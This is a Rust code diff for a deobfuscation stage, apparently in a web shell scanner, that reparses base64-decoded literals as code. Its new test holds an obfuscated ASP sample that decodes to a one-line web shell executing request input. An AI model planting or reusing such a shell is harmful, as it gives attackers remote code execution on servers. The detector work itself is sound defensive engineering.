@@ -212,6 +212,7 @@ fn fold_with_evaluated(code: &str, dialect: Dialect, started: Instant, out: &mut
                     out.applied.push("constants");
                 }
                 folded.applied.extend(again.applied);
+                folded.decoded.extend(again.decoded);
                 folded.incomplete |= again.incomplete;
                 folded.code = again.code;
             }
@@ -232,6 +233,25 @@ fn fold_with_evaluated(code: &str, dialect: Dialect, started: Instant, out: &mut
                         out.applied.push("evaluated-literal");
                     }
                     pending.push((lexer::canonical_code(&inner, dialect), depth + 1));
+                }
+            }
+            // Text hidden in base64/hex may be code the page decodes and runs with its own
+            // decoder: each literal of the folded region that holds decoded text (pieces joined
+            // after decoding included) is read as code too.
+            if !folded.decoded.is_empty() {
+                static ANY_LITERAL: LazyLock<Regex> =
+                    LazyLock::new(|| crate::pattern::builtin(r#""((?:[^"\\\n]|\\.)*)""#));
+                let texts: Vec<String> = ANY_LITERAL
+                    .captures_iter(&folded.code)
+                    .map(|c| lexer::unescape_canonical(&c[1]))
+                    .filter(|t| t.len() > 8 && t.contains('(') && folded.decoded.iter().any(|d| t.contains(d.as_str())))
+                    .take(fold::MAX_DECODED_TEXTS)
+                    .collect();
+                for text in texts {
+                    if !out.applied.contains(&"decoded-literal") {
+                        out.applied.push("decoded-literal");
+                    }
+                    pending.push((lexer::canonical_code(&text, dialect), depth + 1));
                 }
             }
             // Code spelled as a list of character codes, decoded by a loop at run time.
@@ -400,6 +420,20 @@ mod tests {
         assert!(n.code.contains("o=\"Execute\""), "{}", n.code);
         assert!(n.applied.contains(&"chr") && n.applied.contains(&"reverse"));
         assert!(n.applied.contains(&"evaluated-literal"));
+    }
+
+    #[test]
+    fn text_hidden_in_base64_pieces_is_read_as_code_whatever_decodes_it() {
+        // The page's own decoder runs the joined pieces; the stage decodes them and reads the
+        // joined text as code after the region.
+        let page = b"<%\nFunction dec(s)\ndec=s\nEnd Function\np=\"RGltIHY6dj1SZXF1ZXN0LkZv\" & _\n\
+                     \"cm0oImsiKTpFeGVjdXRlR2xvYmFsIHY=\"\nExecuteGlobal dec(p)\n%>";
+        let n = normalize(page).unwrap_or_default();
+        assert!(n.applied.contains(&"decoded-literal"), "{:?}", n.applied);
+        assert!(n.code.lines().any(|l| l.starts_with("Dim v:v=Request.Form(\"k\"):ExecuteGlobal v")), "{}", n.code);
+        // Decoded text without code stays a literal only.
+        let plain = normalize(b"<% t=\"SGVsbG8gd29ybGQgYWdhaW4=\" %>").unwrap_or_default();
+        assert!(!plain.applied.contains(&"decoded-literal") && plain.code.contains("\"Hello world again\""));
     }
 
     #[test]
